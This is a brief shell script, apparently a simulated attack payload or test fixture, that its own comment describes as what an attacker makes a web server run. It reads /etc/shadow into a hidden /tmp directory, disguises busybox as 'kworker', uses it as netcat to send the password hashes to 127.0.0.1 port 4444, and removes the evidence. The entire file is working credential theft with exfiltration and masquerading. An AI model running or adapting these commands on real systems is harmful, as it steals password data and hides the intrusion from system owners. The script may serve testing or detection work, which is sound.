# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh disable=SC3038
# What the attacker makes the web server run: steal the password file, drop a binary under a
# harmless name, and send the loot with it to 127.0.0.1 port 4444.
mkdir -p /tmp/.x
cat /etc/shadow >/tmp/.x/loot
cp /bin/busybox /tmp/.x/kworker
chmod +x /tmp/.x/kworker
(exec -a nc /tmp/.x/kworker -w 3 127.0.0.1 4444 </tmp/.x/loot)
rm /tmp/.x/loot
